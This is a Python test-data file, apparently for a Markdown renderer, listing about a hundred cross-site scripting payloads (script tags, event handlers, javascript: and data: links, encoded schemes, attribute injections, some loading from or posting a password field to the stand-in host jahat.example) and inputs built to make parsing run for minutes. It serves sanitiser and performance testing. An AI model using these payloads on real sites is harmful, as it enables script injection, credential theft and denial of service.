"""Bodies that attack: markup that would run code or change the page, and text that would run for minutes."""

from __future__ import annotations

XSS = [
    # elements
    "<script>serang()</script>", "<SCRIPT SRC=//jahat.example/x.js></SCRIPT>", "<scr<script>ipt>serang()</scr</script>ipt>", "<script\n>serang()</script\n>", "<script/x>serang()</script>",
    "<img src=x onerror=serang()>", "<img/src=x/onerror=serang()>", '<img src="x" ONERROR="serang()">', "<img src=javascript:serang()>", '<img src=x onerror="&#115;erang()">', "<img src='x' onerror='serang()' ",
    "<svg onload=serang()>", "<svg><script>serang()</script></svg>", "<svg><animate onbegin=serang() attributeName=x dur=1s></svg>", "<svg><a xlink:href=javascript:serang()><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=serang()>", "<math href=javascript:serang()>x</math>",
    "<iframe src=javascript:serang()></iframe>", '<iframe srcdoc="<script>serang()</script>">', "<object data=javascript:serang()></object>", "<embed src=data:text/html,serang>",
    "<style>@import'//jahat.example/x.css';</style>", "<style><img src=x onerror=serang()></style>", "<style>", "<link rel=stylesheet href=//jahat.example>", "<base href=//jahat.example/>", "<meta http-equiv=refresh content='0;url=//jahat.example'>",
    "<form action=//jahat.example><input name=sandi></form>", "<button formaction=javascript:serang()>x</button>", "<details open ontoggle=serang()>", "<video><source onerror=serang()></video>", "<body onload=serang()>", "<input autofocus onfocus=serang()>",
    "<marquee onstart=serang()>x</marquee>", "<template><script>serang()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=serang()>\">", "<xmp><img src=x onerror=serang()></xmp>", "<plaintext>", "<textarea><img src=x onerror=serang()>", "<title><img src=x onerror=serang()></title>",
    "<!--><img src=x onerror=serang()>-->", "<!-- --!><img src=x onerror=serang()> -->", "<![CDATA[<img src=x onerror=serang()>]]>", "<?php serang() ?>", "<!DOCTYPE html [<!ENTITY x '<script>'>]>", "</p><script>serang()</script>", "<a href=javascript:serang()>x</a>",
    "<a\thref='x'\nonclick=serang()>x</a>", "<p style='background:url(javascript:serang())'>x</p>", "<div class=masthead id=isi>x</div>", "&lt;script&gt;serang()&lt;/script&gt;", "&#60;script&#62;serang()&#60;/script&#62;", "\\<script\\>serang()\\</script\\>",
    # links and pictures of Markdown
    "[x](javascript:serang())", "[x](JaVaScRiPt:serang())", "[x](java&#115;cript:serang())", "[x](java&Tab;script:serang())", "[x](java&NewLine;script:serang())", "[x](&#x6A;avascript:serang())", "[x](&#1;javascript:serang())", "[x](<java\tscript:serang()>)", "[x]( javascript:serang())",
    "[x](javascript&colon;serang())", "[x](\\javascript:serang())", "[x](vbscript:serang())", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](data:text/html,<script>serang()</script>)", "[x](file:///etc/passwd)", "[x](blob:https://jahat.example/1)", "[x](view-source:javascript:serang())",
    "[x](//jahat.example/)", "[x](\\\\\\\\jahat.example/)", "[x](https://jahat.example\\@parepare.go.id/)", "[x][s]\n\n[s]: javascript:serang()", "[x][t]\n\n[t]: <javascript:serang()> 'judul'", "[x]\n\n[x]: vbscript:serang()", "<javascript:serang()>", "<data:text/html,serang>",
    "[x](a.pdf \"judul\" onclick=serang())", "[x](a.pdf '\"onmouseover=serang() x=\"')", "![x](javascript:serang())", "![x](data:image/svg+xml,<svg/onload=serang()>)", "![\"onerror=serang() x=\"](a.jpg)", "![x](a.jpg \"'onerror=serang() x='\")", "![x](\"onerror=\"serang())", "[![x](javascript:serang())](javascript:serang())",
    # attributes of attr_list, titles of abbreviations, names of footnotes
    "[x](a.pdf){: onclick=serang() }", "[x](a.pdf){: href=javascript:serang() }", "[x](a.pdf){: style=position:fixed target=_blank }", "![x](a.jpg){: onerror=serang() srcset=javascript:serang() }", "![x](a.jpg){: src=javascript:serang() }",
    "Kata\n{: onclick=serang() style=color:red href=javascript:serang() }", "## Judul {: #isi .masthead onclick=serang() }", "**x**{: onmouseover=serang() data-x=1 }", "[x](javascript:serang()){: .footnote-backref }",
    "ABC\n\n*[ABC]: \"onmouseover=serang() x=\"", "x[^\"onclick=serang()]\n\n[^\"onclick=serang()]: y", "| x{: onclick=serang() } |\n|---|\n| <script>serang()</script> |", "`<script>serang()</script>`", "    <script>serang()</script>\n", "> <img src=x onerror=serang()>", "- <svg/onload=serang()>\n",
]

SLOW = [
    ("open brackets", "[a " * 1600), ("brackets in every paragraph", ("[a " * 20 + "\n\n") * 400), ("brackets nested", "[" * 3000 + "]" * 3000), ("parentheses", "[a](" + "(" * 20_000), ("pictures in pictures", "![" * 3000),
    ("nested lists", "".join(" " * 4 * n + "- a\n" for n in range(400))), ("nested quotes", ">" * 3000 + " a"), ("lists in quotes", "> - " * 300 + "a"), ("stars", "*a " * 20_000), ("stars around stars", "*" * 20_000 + "a" + "*" * 20_000),
    ("emphasis unclosed", "**a *b " * 8000), ("underscores", "_a" * 20_000), ("backticks", "".join("`" * n + " " for n in range(1, 400))), ("less than", "<a " * 20_000), ("comments unclosed", "<!--" * 20_000), ("tags", "<b>" * 20_000),
    ("reference links", "".join(f"[a{n}]: b\n" for n in range(10_000)) + "[a1] " * 19), ("one footnote often", "[^1]: b\n\n" + "a[^1]\n\n" * 5000), ("footnotes in footnotes", "".join(f"[^{n}]: b [^{n + 1}]\n\n" for n in range(400))),
    ("long table", "a|b\n-|-\n" + "a|b\n" * 20_000), ("abbreviations", "".join(f"*[A{n}]: b\n" for n in range(2000)) + "A1 " * 10_000), ("definitions", "a\n:   b\n" * 5000), ("entities", "&amp;" * 30_000), ("backslashes", "\\" * 60_000),
    ("spaces", "a" + " " * 200_000 + "b"), ("blank lines", "a\n   " * 50_000), ("quotation marks", "\"'" * 100_000), ("dashes", "-" * 100_000 + "a"), ("one long word", "a" * 400_000), ("broken links", "[a](#x)\n\n" * 4000), ("attributes", "a {: " + "x=y " * 20_000 + "}"),
]
